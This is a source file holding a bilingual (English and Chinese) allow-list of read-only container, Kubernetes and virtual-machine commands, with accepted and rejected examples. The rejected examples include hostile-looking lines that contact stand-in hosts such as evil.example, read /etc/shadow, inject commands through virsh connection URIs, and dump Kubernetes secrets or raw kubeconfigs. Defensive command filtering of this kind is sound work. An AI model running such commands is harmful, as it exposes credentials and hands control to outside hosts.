/** Containers, clusters and virtual machines. */
export const CONTAINER_MANUAL = String.raw`
# Formats are Go templates, which run nothing; one that asks for the environment shows passwords.
set go-format
  --format=/(?!-)(?![\s\S]*env)[\s\S]+/ | how to show | 显示格式

set go-format-f
  -f --format=/(?!-)(?![\s\S]*env)[\s\S]+/ | how to show | 显示格式

set ls
  -f --filter=text | which ones | 过滤条件
  -q --quiet | identifiers only | 仅显示 ID
  --no-trunc | full length | 不截断

common docker
  before
  -f --file=/(?!-)[^:|]+\.ya?ml/ | this Compose file | 指定 Compose 文件
  -p --project-name=name | this project | 指定项目
  --profile=name | this profile | 指定配置
  --project-directory=path | this directory | 指定目录
  --ansi={never,always,auto}

common docker-compose
  before
  -f --file=/(?!-)[^:|]+\.ya?ml/ | this Compose file | 指定 Compose 文件
  -p --project-name=name | this project | 指定项目
  --profile=name | this profile | 指定配置
  --project-directory=path | this directory | 指定目录
  --ansi={never,always,auto}
  --no-ansi

common nerdctl
  before
  -n --namespace=name | this namespace | 命名空间

# An unknown option before the sub-command would take the sub-command as its value (cobra): “podman -f logs rm x”.
common podman
  before
  --log-level={debug,info,warn,error}

docker, nerdctl, podman: ps, container ls, container list, container ps | lists containers | 列出容器
  from Docker 20.10 docker-ps(1); Podman 4.3 podman-ps(1); nerdctl 1.0 reference
  use ls go-format
  -a --all | also stopped ones | 包括已停止的
  -n --last=/-?\d+/ | the last ones | 最近的容器
  -l --latest | the last one | 最近的一个
  -s --size | with sizes | 显示大小
  = docker ps
  = docker ps -a
  = docker ps -aq
  = docker ps --filter status=running
  = docker ps -a --format 'table {{.Names}}\t{{.Status}}'
  = docker ps -n 5
  = docker container ls -a --no-trunc
  ! docker -H tcp://evil.example:2375 ps
  ! docker --config /tmp/x ps
  ! docker --context x ps
  ! docker -c x ps
  ! docker --tlscacert /tmp/x ps
  ! docker ps x
  ! podman ps --sync
  ! podman ps --watch 2
  ! podman --url ssh://evil.example ps
  ! podman --hooks-dir /tmp/x ps
  ! podman --conmon /tmp/x ps
  ! docker run x
  ! docker exec web ps
  ! docker container prune

docker, nerdctl, podman: images, image ls, image list | lists images | 列出镜像
  use ls go-format
  -a --all | also intermediate ones | 包括中间镜像
  --digests | with digests | 显示摘要
  operands name*
  = docker images
  = docker images -a
  = docker image ls --format '{{.Repository}}:{{.Tag}}'
  = docker images --digests nginx
  ! docker image rm x
  ! docker rmi x
  ! docker image prune
  ! docker pull x
  ! docker images -H x

docker, podman: info, system info | shows the container engine | 显示容器引擎信息
  use go-format-f
  = docker info
  = docker info --format '{{.ServerVersion}}'
  = docker system info
  ! docker system prune
  ! docker info -H x
  ! docker --log-level debug -D --tls info
  ! docker info x

nerdctl: info, version, system info | shows the container engine | 显示容器引擎信息
  use go-format-f
  = nerdctl info
  = nerdctl version
  ! nerdctl --address /tmp/x info
  ! nerdctl run x

docker, podman: version | shows versions | 显示版本
  use go-format-f
  = docker version
  = docker version --format '{{.Server.Version}}'
  ! docker version --kubeconfig /tmp/x

docker, nerdctl: logs, container logs | shows the log of a container | 显示容器日志
  -f --follow !endless | follows | 持续跟踪
  -n --tail=/\d+|all/ | the last lines | 最后几行
  --since --until=text | from or to this time | 时间范围
  -t --timestamps | with times | 显示时间
  --details | with details | 显示详情
  operands /[\w][\w.-]*/
  = docker logs web
  = docker logs --tail 50 web
  = docker logs -t --tail=50 web
  = docker logs --since 10m --tail 20 web
  = docker logs -n 100 web
  = docker logs web --tail 100
  ! docker logs
  ! docker logs --config=/tmp/x web
  ! docker logs web reboot

podman: logs, container logs | shows the log of a container | 显示容器日志
  -f --follow !endless | follows | 持续跟踪
  --tail=/\d+/ | the last lines | 最后几行
  --since --until=text | from or to this time | 时间范围
  -t --timestamps | with times | 显示时间
  -l --latest | the last one | 最近的一个
  --color --names
  operands /[\w][\w.-]*/*
  = podman logs web
  = podman logs --tail 50 --since 1h web
  ! podman logs --frobnicate web
  ! podman --root /tmp/x logs web
  ! podman -f logs rm web
  ! podman -t logs rm web

docker, nerdctl, podman: inspect, container inspect | shows details of a container | 显示容器详情
  use go-format-f
  -s --size | with sizes | 显示大小
  --type={container,image,network,volume,node,service,task,plugin,all,pod} | of this kind | 对象类型
  operands /[\w][\w.\/:@-]*/+
  = docker inspect web
  = docker inspect -f '{{.State.Status}}' web
  = docker inspect --format '{{json .NetworkSettings.Networks}}' web
  = docker container inspect --size web
  = docker inspect --type image nginx:latest
  ! docker inspect --format '{{.Config.Env}}' web
  ! docker inspect -f '{{json .Config.Env}}' web
  ! docker inspect -f'{{range .Config.Env}}{{.}}{{end}}' web
  ! docker inspect --type config x
  ! docker inspect --type secret x
  ! docker secret inspect x
  ! docker config inspect x

docker, nerdctl, podman: image inspect, network inspect, volume inspect | shows details of images, networks or volumes | 显示镜像、网络或卷的详情
  use go-format-f
  -v --verbose | more details | 更多详情
  operands /[\w][\w.\/:@-]*/+
  = docker volume inspect x
  = docker network inspect bridge
  = docker image inspect nginx
  = docker network inspect -f '{{json .Containers}}' bridge
  ! docker network rm x
  ! docker volume rm x
  ! docker volume create x
  ! docker network connect x y

docker, nerdctl, podman: history, image history | shows the layers of an image | 显示镜像各层
  use go-format
  -q --quiet | identifiers only | 仅显示 ID
  -H --human --no-trunc | how to show | 显示方式
  operands /[\w][\w.\/:@-]*/
  = docker history nginx
  = docker history --no-trunc nginx:latest
  ! docker history x -o /home/pi/x
  ! docker save -o /home/pi/x nginx

docker, nerdctl, podman: stats, container stats | shows the load of containers | 显示容器资源占用
  use go-format
  endless | never ends: use docker stats --no-stream | 不会结束：请使用 docker stats --no-stream
  --no-stream !ends | once only | 仅一次
  -a --all | also stopped ones | 包括已停止的
  --no-trunc | full length | 不截断
  operands /[\w][\w.-]*/*
  = docker stats --no-stream
  = docker stats --no-stream web db
  = docker stats --no-stream --format '{{.Name}}: {{.CPUPerc}}'
  = docker stats -a --no-stream
  ! docker stats --no-stream --reset
  ! docker update --cpus 1 web

docker, nerdctl: top, container top | shows the processes of a container | 显示容器内的进程
  -e -f -l -A -x -L -w -H | how to show | 显示方式
  -o=/[\w,%=:]+/ | these columns | 指定列
  operands /[\w][\w.-]*/ {aux,axu,auxf,auxw,ax}?
  = docker top web
  = docker top web aux
  = docker top web -ef
  = docker top web -o pid,cmd
  ! docker top
  ! docker exec web top

podman: top, container top | shows the processes of a container | 显示容器内的进程
  -l --latest | the last one | 最近的一个
  operands /[\w][\w.-]*/ {pid,user,comm,args,pcpu,time,etime,state,ppid,hpid,huser,stime,tty,vsz,rss,nice,group}*
  = podman top web
  = podman top web pid user comm
  ! podman top web reboot
  ! podman top web -ef
  ! podman exec web ps
  ! podman -l top pid

docker, nerdctl, podman: port, container port | shows the ports of a container | 显示容器端口
  operands /[\w][\w.-]*/ /\d+(?:\/(?:tcp|udp|sctp))?/?
  = docker port web
  = docker port web 80/tcp
  ! docker port -a x y z
  ! docker port web 80 --publish x

docker, nerdctl, podman: diff, container diff | shows changed files of a container | 显示容器内更改的文件
  operands /[\w][\w.\/:-]*/
  = docker diff web
  = docker container diff web
  ! docker commit web x
  ! docker export -o /home/pi/x web
  ! docker diff web x -o y

docker, nerdctl, podman: network ls, network list, volume ls, volume list | lists networks or volumes | 列出网络或卷
  use ls go-format
  = docker network ls
  = docker volume ls
  = docker volume ls -q
  = docker volume ls -f dangling=true
  = docker network ls --filter driver=bridge
  ! docker volume prune
  ! docker network create x
  ! docker network prune -f

docker, podman: system df | shows the space of containers | 显示容器占用空间
  use go-format
  -v --verbose | more details | 更多详情
  = docker system df
  = docker system df -v
  ! docker system prune -af
  ! docker system df x
  ! podman system reset

docker, podman: events, system events | shows what happens in the engine | 显示容器引擎事件
  endless | never ends: add --until 0s | 不会结束：请加 --until 0s
  -f --filter=text | which ones | 过滤条件
  --since=text | from this time | 起始时间
  --until=/\d+[smh]/ !ends | until so long ago | 直到多久之前
  = docker events --since 1h --until 0s
  = docker events --since 24h --until 1m --filter container=web
  ! docker events --format x --output y
  ! docker events x

docker: context ls, context list, context show, plugin ls, plugin list, node ls, service ls, stack ls, buildx ls, buildx version, checkpoint ls, config ls, secret ls | lists what the engine has | 列出引擎对象
  use ls go-format
  = docker context ls
  = docker node ls
  = docker service ls
  = docker stack ls
  = docker plugin ls
  ! docker context use x
  ! docker context export x
  ! docker context create x
  ! docker plugin install x
  ! docker swarm join-token worker
  ! docker swarm leave

docker: node ps, node inspect, service ps, service inspect, stack ps, stack services | shows a swarm | 显示 Swarm 信息
  use ls go-format
  --no-resolve --pretty | how to show | 显示方式
  operands /[\w][\w.-]*/+
  = docker service ps web
  = docker stack services app
  = docker stack ps --no-trunc app
  = docker service inspect --pretty web
  ! docker service update web
  ! docker service rm web
  ! docker stack ps --kubeconfig /tmp/x app
  ! docker service inspect --format '{{.Spec.TaskTemplate.ContainerSpec.Env}}' web

docker: service logs | shows the log of a service | 显示服务日志
  -f --follow !endless | follows | 持续跟踪
  -n --tail=/\d+|all/ | the last lines | 最后几行
  --since=text | from this time | 起始时间
  -t --timestamps | with times | 显示时间
  --no-resolve --no-task-ids --no-trunc --raw --details | how to show | 显示方式
  operands /[\w][\w.-]*/
  = docker service logs --tail 50 web
  = docker service logs -t --since 10m web
  ! docker service scale web=0

docker: search | searches images on the network | 在网络上搜索镜像
  network
  use ls go-format
  --limit=number
  operands /[\w][\w.\/-]*/
  = docker search mosquitto
  = docker search --limit 5 nginx
  ! docker push x
  ! docker search --config /tmp/x y

set compose-ps
  -a --all | also stopped ones | 包括已停止的
  -q --quiet | identifiers only | 仅显示 ID
  --services | names of services | 服务名称
  --status={paused,restarting,removing,running,dead,created,exited} | with this state | 按状态
  --filter=text
  --no-trunc --orphans
  --format=/(?!-)(?![\s\S]*env)[\s\S]+/ | how to show | 显示格式

docker: compose ps, compose ls, compose images, compose version | shows Compose services | 显示 Compose 服务
  from Docker Compose 2.20 reference
  use compose-ps
  --short
  operands name*
  = docker compose ps
  = docker compose ps -a
  = docker compose ls
  = docker compose ps --services --filter status=running
  = docker compose version
  ! docker compose up -d
  ! docker compose -f oci://evil.example/x ps
  ! docker compose -f https://evil.example/x.git ps
  ! docker compose --env-file /etc/shadow ps
  ! docker compose down
  ! docker compose exec web ps

docker-compose: ps, ls, images, version | shows Compose services | 显示 Compose 服务
  from Docker Compose 1.29 and 2.20 reference
  use compose-ps
  --short
  operands name*
  = docker-compose ps
  = docker-compose -f /opt/x/docker-compose.yml ps -a
  = docker-compose images
  ! docker-compose up -d
  ! docker-compose -f /etc/shadow ps
  ! docker-compose -H tcp://evil.example ps
  ! docker-compose --env-file=/etc/shadow ps

set compose-logs
  -f --follow !endless | follows | 持续跟踪
  -n --tail=/\d+|all/ | the last lines | 最后几行
  --since --until=text | from or to this time | 时间范围
  -t --timestamps | with times | 显示时间
  --no-color --no-log-prefix

docker: compose logs | shows the log of Compose services | 显示 Compose 服务日志
  use compose-logs
  operands name*
  = docker compose logs --tail 20
  = docker compose logs -t --tail=100 web
  ! docker compose logs --out=/home/pi/x
  ! docker compose kill

docker-compose: logs | shows the log of Compose services | 显示 Compose 服务日志
  use compose-logs
  operands name*
  = docker-compose logs --tail=20
  = docker-compose logs --tail 50 --no-color web
  ! docker-compose kill

set compose-config
  --services | names of services | 服务名称
  --volumes | names of volumes | 卷名称
  --images | names of images | 镜像名称
  --profiles | names of profiles | 配置名称
  -q --quiet | checks only | 仅检查
  --no-interpolate --no-normalize --no-path-resolution --no-consistency
  --format={yaml,json}

docker: compose config | shows the Compose file as it is read | 显示解析后的 Compose 文件
  use compose-config
  = docker compose config
  = docker compose config --services
  = docker compose config -q
  ! docker compose config -o /home/pi/x
  ! docker compose config --output=/home/pi/x
  ! docker compose config -qo /home/pi/x
  ! docker compose config --lock-image-digests
  ! docker compose config --environment

docker-compose: config | shows the Compose file as it is read | 显示解析后的 Compose 文件
  use compose-config
  = docker-compose config
  = docker-compose config --services
  ! docker-compose config -o /home/pi/x
  ! docker-compose config --output=/home/pi/x

docker: compose top, compose port | shows processes and ports of Compose services | 显示 Compose 服务的进程与端口
  operands name*
  = docker compose top
  = docker compose port web 80
  ! docker compose restart web
  ! docker compose port --index x

docker-compose: top, port | shows processes and ports of Compose services | 显示 Compose 服务的进程与端口
  operands name*
  = docker-compose top
  = docker-compose port web 80
  ! docker-compose restart web

podman: pod ps, pod ls, pod list, machine ls, machine list, secret ls | lists what Podman has | 列出 Podman 对象
  use ls go-format
  = podman pod ps
  = podman machine ls
  ! podman pod rm x
  ! podman machine stop

podman: pod inspect | shows details of a pod | 显示 Pod 详情
  use go-format-f
  operands name+
  = podman pod inspect x
  = podman pod inspect web
  ! podman pod kill x

set crictl-view
  -a --all | also stopped ones | 包括已停止的
  -q --quiet | identifiers only | 仅显示 ID
  -o --output={json,yaml,table} | output format | 输出格式
  --no-trunc | full length | 不截断
  --name=text
  --state=name
  --pod -p=name
  --label=text
  --namespace=name
  -l --latest -v --verbose
  -n --last=number

crictl: ps, pods, images, image, img, info, version, stats, statsp | shows containers of the cluster node | 显示节点上的容器
  from cri-tools 1.26 crictl reference
  use crictl-view
  operands name*
  = crictl ps
  = crictl ps -a
  = crictl pods --namespace kube-system
  = crictl images
  = crictl stats
  ! crictl -c /tmp/x ps
  ! crictl -r unix:///tmp/x ps
  ! crictl stats -w
  ! crictl rm x
  ! crictl stopp x

crictl: logs | shows the log of a container | 显示容器日志
  -f --follow !endless | follows | 持续跟踪
  --tail=number | the last lines | 最后几行
  --since=text | from this time | 起始时间
  -t --timestamps -p --previous | how to show | 显示方式
  operands name
  = crictl logs --tail 50 0a1b2c3d
  = crictl logs --since 1h 0a1b2c3d
  ! crictl logs -r 0a1b2c3d
  ! crictl exec 0a ls

crictl: inspect, inspecti, inspectp | shows details of a container | 显示容器详情
  -o --output={json,yaml,table} | output format | 输出格式
  -q --quiet
  operands /[\w][\w.\/:@-]*/+
  = crictl inspect 0a1b2c3d
  = crictl inspecti -o yaml nginx
  ! crictl rmi x

common crictl
  before
  -D --debug

common ctr
  before
  -n --namespace=name | this namespace | 命名空间

ctr: containers ls, containers list, container ls, container list, c ls, c list, images ls, images list, image ls, i ls, i list, tasks ls, tasks list, task ls, t ls, t list, namespaces ls, ns ls, plugins ls, plugins list, snapshots ls, version | shows containers of containerd | 显示 containerd 容器
  from containerd 1.6 ctr reference
  -q --quiet | identifiers only | 仅显示 ID
  = ctr containers ls
  = ctr -n k8s.io containers ls
  = ctr images ls -q
  = ctr tasks ls
  ! ctr -a /tmp/x containers ls
  ! ctr run x y
  ! ctr task exec x
  ! ctr images pull x
  ! ctr containers rm x

# Whatever holds the word “secret” is not covered, in any case and any list.
set kube
  -n --namespace=/=?[a-z0-9][a-z0-9.-]*/ | this namespace | 命名空间
  --context=/[\w][\w.@:\/-]*/ | this cluster | 集群上下文
  --request-timeout=/\d+[smh]?/ | waits at most | 请求超时

set kube-pick
  -A --all-namespaces | all namespaces | 所有命名空间
  -l --selector=/[\w!(][\w.\/=!,()-]*/ | with these labels | 标签选择

set kube-get
  -o --output=/=?(?:wide|json|yaml|name|(?:jsonpath|jsonpath-as-json|custom-columns|go-template)=(?![\s\S]*secret)[\s\S]+)/ | output format | 输出格式
  -w --watch --watch-only !endless | follows | 持续跟踪
  --field-selector=/[\w][\w.=!,\/-]*/ | with these values | 字段选择
  --sort-by=/[\w.{][\w.{}\[\]()@?=\/'"-]*/ | order | 排序方式
  -L --label-columns=/[\w][\w.,\/-]*/ | with these labels as columns | 标签列
  --show-labels | with labels | 显示标签
  --no-headers | without a heading | 不显示表头
  --show-kind --ignore-not-found --show-managed-fields
  --chunk-size=number
  --subresource={status,scale}

common kubectl, k3s, microk8s
  before
  use kube

kubectl: get | lists objects of the cluster | 列出集群对象
  from Kubernetes 1.20 kubectl-get(1); kubectl 1.27 reference
  use kube kube-pick kube-get
  operands /(?![\s\S]*secret)[a-z][\w.,\/-]*/ /(?![\s\S]*secret)[a-z0-9][\w.:\/-]*/*
  = kubectl get pods
  = kubectl get nodes -o wide
  = kubectl get pods -n=default -o=json
  = kubectl get pods -A
  = kubectl -n kube-system get pods
  = kubectl get deploy,svc -n default
  = kubectl get pod web -o jsonpath='{.status.phase}'
  = kubectl get events --sort-by=.metadata.creationTimestamp
  = kubectl get pods --field-selector status.phase=Running
  = kubectl get pods -l app=web --show-labels
  ! kubectl get secrets
  ! kubectl get secret/x -o yaml
  ! kubectl get SECRETS -o yaml
  ! kubectl get pods,secrets -o yaml
  ! kubectl get secrets.v1. -o json
  ! kubectl get pod/x Secret/y
  ! kubectl get --raw /api/v1/namespaces/default/secrets
  ! kubectl --kubeconfig=/tmp/x get pods
  ! kubectl get pods --kubeconfig /tmp/x
  ! kubectl get -f https://evil.example/x
  ! kubectl get -k /tmp/x
  ! kubectl get pods -o jsonpath-file=/etc/shadow
  ! kubectl get pods -o go-template-file=/etc/shadow
  ! kubectl get pods -o custom-columns-file=/etc/shadow
  ! kubectl get pods --template=/etc/shadow
  ! kubectl get pods -s https://evil.example
  ! kubectl get pods --token x
  ! kubectl get pods --cache-dir=/home/pi/x
  ! kubectl get pods --log-file=/home/pi/x
  ! kubectl get pods --profile=cpu --profile-output=/home/pi/x
  ! kubectl delete pod x
  ! kubectl -A get delete pods
  ! kubectl -w get delete pods

kubectl: describe | shows details of objects of the cluster | 显示集群对象详情
  use kube kube-pick
  --show-events={true,false}
  operands /(?![\s\S]*secret)[a-z][\w.,\/-]*/ /(?![\s\S]*secret)[a-z0-9][\w.:\/-]*/*
  = kubectl describe pod x
  = kubectl describe node pi4
  = kubectl describe pods -n kube-system -l app=web
  ! kubectl describe secret x
  ! kubectl describe -f /tmp/x
  ! kubectl edit pod x

kubectl: logs | shows the log of a pod | 显示 Pod 日志
  use kube kube-pick
  -f --follow !endless | follows | 持续跟踪
  --tail=/-?\d+/ | the last lines | 最后几行
  --since=/\d+[smh][\dsmh]*/ | since so long ago | 最近多久
  --since-time=text | from this time | 起始时间
  --timestamps | with times | 显示时间
  -c --container=name | of this container | 指定容器
  -p --previous | of the one before | 前一个实例
  --all-containers | of all containers | 所有容器
  --prefix --ignore-errors
  --limit-bytes --max-log-requests=number
  operands /[a-z0-9][\w.\/-]*/*
  = kubectl logs x --tail=10
  = kubectl logs -n kube-system coredns-abc
  = kubectl logs deploy/web --since 1h
  = kubectl logs x -c app --previous
  = kubectl logs -l app=web --tail 20 --prefix
  ! kubectl logs x --log-file=/home/pi/x
  ! kubectl logs x --kubeconfig=/tmp/x
  ! kubectl exec x -- ls
  ! kubectl -f logs delete pod
  ! kubectl cp x:/y /z

kubectl: top pod, top pods, top po, top node, top nodes, top no | shows the load of the cluster | 显示集群资源占用
  use kube kube-pick
  --containers --no-headers --sum | how to show | 显示方式
  --sort-by={cpu,memory} | order | 排序方式
  operands /[a-z0-9][\w.-]*/?
  = kubectl top pods
  = kubectl top nodes
  = kubectl top pod -A --sort-by=memory
  ! kubectl top pods --server=https://evil.example
  ! kubectl top pods --as root

kubectl: version, cluster-info, api-resources, api-versions, explain, plugin list | shows what the cluster offers | 显示集群信息
  use kube
  --client --short --recursive --no-headers --namespaced --cached | how to show | 显示方式
  -o --output={json,yaml,wide,name} | output format | 输出格式
  --api-group --api-version=name
  --verbs=/[a-z,]+/
  operands /[a-z][a-z0-9.]*/?
  = kubectl version
  = kubectl version --client
  = kubectl cluster-info
  = kubectl api-resources -o wide
  = kubectl explain pod.spec
  ! kubectl cluster-info dump --output-directory=/home/pi
  ! kubectl version --kubeconfig=/tmp/x
  ! kubectl api-resources --cache-dir=/home/pi/x
  ! kubectl apply -f x

kubectl: config get-contexts, config current-context, config view, config get-clusters, config get-users | shows how kubectl connects | 显示 kubectl 配置
  -o --output={json,yaml,name} | output format | 输出格式
  --minify | of this context | 仅当前上下文
  --no-headers
  = kubectl config get-contexts
  = kubectl config current-context
  = kubectl config view
  = kubectl config view --minify
  ! kubectl config view --raw
  ! kubectl config view --raw=true
  ! kubectl config view --flatten
  ! kubectl config view -o jsonpath='{.users[0].user.password}'
  ! kubectl config view --kubeconfig=/root/.kube/config
  ! kubectl config use-context x
  ! kubectl config set-context x

kubectl: rollout history, rollout status | shows how an update went | 显示更新情况
  use kube
  --revision=number
  --timeout=/\d+[smh]/ | waits at most | 最长等待
  operands /[a-z][\w.\/-]*/ /[a-z0-9][\w.-]*/?
  = kubectl rollout history deploy/web
  = kubectl rollout status deploy/web --timeout 30s
  ! kubectl rollout undo deploy/web
  ! kubectl rollout restart deploy/web

kubectl: auth can-i | tells what is allowed | 查看权限
  use kube
  --list -A --all-namespaces -q --quiet --no-headers | what to show | 显示内容
  operands /[a-z*]+/? /[a-z*][\w.\/-]*/? name?
  = kubectl auth can-i get pods
  = kubectl auth can-i --list
  ! kubectl auth reconcile -f x
  ! kubectl auth can-i get pods --as root

kubectl: events | shows events of the cluster | 显示集群事件
  use kube
  -A --all-namespaces | all namespaces | 所有命名空间
  -w --watch !endless | follows | 持续跟踪
  --for=/[a-z][\w.\/-]*/
  --types={Normal,Warning}
  --no-headers
  = kubectl events -A
  = kubectl events --for pod/web
  ! kubectl events --kubeconfig /tmp/x

k3s, microk8s: kubectl get | lists objects of the cluster | 列出集群对象
  from K3s 1.27 documentation; MicroK8s 1.27 documentation
  use kube kube-pick kube-get
  operands /(?![\s\S]*secret)[a-z][\w.,\/-]*/ /(?![\s\S]*secret)[a-z0-9][\w.:\/-]*/*
  = k3s kubectl get nodes
  = k3s kubectl get pods -A -o wide
  ! k3s kubectl get secrets
  ! k3s kubectl get nodes --kubeconfig /tmp/x
  ! k3s --data-dir /tmp/x kubectl get nodes
  ! k3s server
  ! k3s secrets-encrypt rotate
  ! k3s token create

k3s, microk8s: kubectl describe | shows details of objects of the cluster | 显示集群对象详情
  use kube kube-pick
  operands /(?![\s\S]*secret)[a-z][\w.,\/-]*/ /(?![\s\S]*secret)[a-z0-9][\w.:\/-]*/*
  = k3s kubectl describe pod x
  = k3s kubectl describe node pi4
  ! k3s kubectl describe secret x

k3s, microk8s: kubectl logs | shows the log of a pod | 显示 Pod 日志
  use kube
  -f --follow !endless | follows | 持续跟踪
  --tail=/-?\d+/ | the last lines | 最后几行
  --since=/\d+[smh][\dsmh]*/ | since so long ago | 最近多久
  -c --container=name | of this container | 指定容器
  -p --previous --timestamps --all-containers
  operands /[a-z0-9][\w.\/-]*/*
  = k3s kubectl logs x --tail=10
  = k3s kubectl logs -n kube-system coredns-abc --since 1h
  ! k3s kubectl exec x -- ls

k3s: check-config, kubectl version, kubectl top pods, kubectl top nodes, kubectl cluster-info, crictl ps, crictl images, crictl pods | shows the cluster | 显示集群信息
  -a -A | all of them | 全部
  = k3s check-config
  = k3s kubectl top nodes
  = k3s crictl ps
  ! k3s etcd-snapshot save
  ! k3s crictl rm x

common helm
  before
  -n --namespace=name | this namespace | 命名空间

helm: list, ls | lists releases | 列出已安装的发布
  from Helm 3.12 reference
  -A --all-namespaces | all namespaces | 所有命名空间
  -n --namespace=name | this namespace | 命名空间
  -a --all --deployed --failed --pending --superseded --uninstalled --uninstalling -q --short -d --date -r --reverse --no-headers | which ones | 显示哪些
  -o --output={table,json,yaml} | output format | 输出格式
  -m --max --offset=number
  -f --filter=text
  -l --selector=text
  = helm list
  = helm list -A
  = helm ls -n default -o json
  ! helm list --kubeconfig=/tmp/x
  ! helm list --post-renderer reboot
  ! helm list --kube-apiserver https://evil.example
  ! helm install x y
  ! helm uninstall x
  ! helm -a list uninstall

helm: status, history, hist | shows a release | 显示发布状态
  -n --namespace=name | this namespace | 命名空间
  --max --revision=number
  -o --output={table}
  operands name
  = helm status web
  = helm history web -n default
  ! helm get values web
  ! helm get all web
  ! helm status web -o yaml
  ! helm rollback web 1
  ! helm env

helm: version, repo list, repo ls, search repo, plugin list | shows what Helm has | 显示 Helm 信息
  --short -l --versions
  operands name?
  = helm version
  = helm repo list
  = helm search repo nginx
  ! helm repo add x https://evil.example
  ! helm plugin install x
  ! helm search repo --repository-config=/tmp/x y

common lxc, incus
  before
  --project=name | this project | 指定项目
  -q --quiet

lxc, incus: list, ls, info, version, image list, image ls, network list, network ls, network show, network info, storage list, storage ls, storage info, profile list, profile ls, cluster list, alias list, warning list | shows containers of LXD | 显示 LXD 容器
  from LXD 5.0 lxc(1); Incus 0.4 reference
  -f --format={csv,json,table,yaml,compact} | output format | 输出格式
  -c --columns=/[A-Za-z0-9,]+/ | which columns | 显示列
  --fast --all-projects --resources --show-log | how to show | 显示方式
  operands /[\w][\w.\/-]*/?
  = lxc list
  = lxc list --format csv -c ns4
  = lxc info web
  = lxc image list
  = lxc network list
  ! lxc exec web -- ls
  ! lxc list evil:
  ! lxc config show web
  ! lxc config set web x y
  ! lxc file push x web/y
  ! lxc stop web
  ! lxc --resources info stop
  ! lxc query -X DELETE /1.0/instances/web

lxc-ls | lists containers of LXC | 列出 LXC 容器
  from LXC 5.0 lxc-ls(1)
  -f --fancy | as a table | 表格显示
  -1 --line --active --running --stopped --frozen --defined | which ones | 显示哪些
  -F --fancy-format=/[A-Za-z0-9_,]+/ | which columns | 显示列
  operands name?
  = lxc-ls
  = lxc-ls -f
  = lxc-ls --fancy --running
  ! lxc-ls -P /tmp/x
  ! lxc-ls --lxcpath=/tmp/x
  ! lxc-ls -o /home/pi/x
  ! lxc-ls --logfile=/home/pi/x
  ! lxc-ls --rcfile=/tmp/x

lxc-info | shows a container of LXC | 显示 LXC 容器信息
  from LXC 5.0 lxc-info(1)
  -n --name=name !first | this container | 指定容器
  -s --state -p --pid -i --ips -S --stats -H --no-humanize | what to show | 显示内容
  operands name
  = lxc-info -n web
  = lxc-info -n web -s -p
  = lxc-info web
  ! lxc-info -n web -o /home/pi/x
  ! lxc-info -n web --rcfile /tmp/x
  ! lxc-info -n web -P /tmp/x

lxc-checkconfig | checks the kernel for containers | 检查内核容器支持
  from LXC 5.0 lxc-checkconfig(1)
  = lxc-checkconfig
  = lxc-checkconfig
  ! lxc-checkconfig x

set virsh
  -r --readonly -q --quiet

virsh: list, net-list, pool-list, iface-list, nodedev-list, nwfilter-list | lists virtual machines and networks | 列出虚拟机与网络
  from libvirt 9.0 virsh(1)
  use virsh
  --all --inactive --name --uuid --title --table --persistent --transient --autostart --no-autostart --state-running --state-paused --state-shutoff --with-snapshot --managed-save --details --active --tree | which ones | 显示哪些
  --cap=name
  = virsh list --all
  = virsh list
  = virsh net-list --all
  = virsh pool-list --details
  ! virsh -c 'qemu+ext:///system?command=/sbin/reboot' list
  ! virsh --connect=qemu+ssh://evil/system list
  ! virsh list -c qemu+ext:///x
  ! virsh -l /home/pi/x list
  ! virsh --log=/home/pi/x list
  ! virsh 'list;destroy x'
  ! virsh list ';' destroy x
  ! virsh

virsh: dominfo, domstate, domiflist, domblklist, domblkinfo, domblkstat, domifaddr, domifstat, domid, domuuid, domname, domstats, domcontrol, domjobinfo, vcpuinfo, vcpucount, snapshot-list, dumpxml, net-info, net-dumpxml, net-dhcp-leases, pool-info, pool-dumpxml, vol-list, vol-info, iface-dumpxml | shows a virtual machine | 显示虚拟机信息
  use virsh
  --reason --details --inactive --full --human --tree --parent --current --config --maximum --active --live --state --cpu-total --balloon --vcpu --interface --block | what to show | 显示内容
  --source={lease,agent,arp}
  operands /[\w][\w.:-]*/*
  = virsh dominfo web
  = virsh domstate web --reason
  = virsh domblklist web --details
  = virsh dumpxml web
  = virsh net-info default
  ! virsh dumpxml web --security-info
  ! virsh destroy web
  ! virsh undefine web
  ! virsh start web
  ! virsh dommemstat web --period 5 --live
  ! virsh qemu-monitor-command web x

virsh: nodeinfo, nodecpustats, nodememstats, nodecpumap, version, uri, hostname, sysinfo, capabilities, freecell | shows the host of virtual machines | 显示虚拟化主机信息
  use virsh
  --cpu --percent --pretty --daemon --all
  = virsh nodeinfo
  = virsh version
  = virsh nodecpustats --percent
  ! virsh nodesuspend mem 60
  ! virsh secret-get-value x

machinectl: list, list-images, status, show, image-status, show-image | shows containers and virtual machines of systemd | 显示 systemd 容器与虚拟机
  from systemd 252 machinectl(1)
  --no-pager --no-legend -l --full -a --all -q --quiet | how to show | 显示方式
  -n --lines=number | how many lines | 行数
  -p --property=name | these properties | 指定属性
  --max-addresses=/\d+|all/
  -o --output={short,short-iso,cat,json,verbose} | output format | 输出格式
  operands name*
  = machinectl list
  = machinectl status web
  = machinectl list --no-pager
  ! machinectl shell web
  ! machinectl -H evil.example list
  ! machinectl -M x list
  ! machinectl poweroff web
  ! machinectl remove x

vboxmanage, VBoxManage: list | lists virtual machines | 列出虚拟机
  from VirtualBox 7.0 manual
  -l --long -s --sorted | how to show | 显示方式
  operands {vms,runningvms,ostypes,hostinfo,hdds,dvds,hostonlyifs,bridgedifs,natnets,intnets,dhcpservers,extpacks,systemproperties,usbhost,groups}
  = vboxmanage list vms
  = vboxmanage list runningvms
  ! vboxmanage startvm x
  ! vboxmanage controlvm x poweroff
  ! vboxmanage --settingspwfile /etc/shadow list vms

common minikube
  before
  -p --profile=name | this cluster | 指定集群

minikube: status, ip, version, profile list, node list, addons list | shows the local cluster | 显示本地集群
  from minikube 1.30 reference
  -p --profile=name | this cluster | 指定集群
  -o --output={text,json,table} | output format | 输出格式
  = minikube status
  = minikube ip
  ! minikube start
  ! minikube delete
  ! minikube status -w 2
  ! minikube ssh

qm, pct: list, status, listsnapshot, pending | shows machines of Proxmox | 显示 Proxmox 虚拟机
  from Proxmox VE 8 qm(1), pct(1)
  -verbose --verbose --full
  operands /\d+/?
  = qm list
  = qm status 100
  ! qm stop 100
  ! qm monitor 100
  ! pct exec 100 ls
  ! qm snapshot 100 x
  ! qm snapshot 100

qm, pct: config | shows the settings of a machine of Proxmox | 显示 Proxmox 虚拟机配置
  --current -current
  operands /\d+/
  = qm config 100
  ! qm set 100 --memory 512
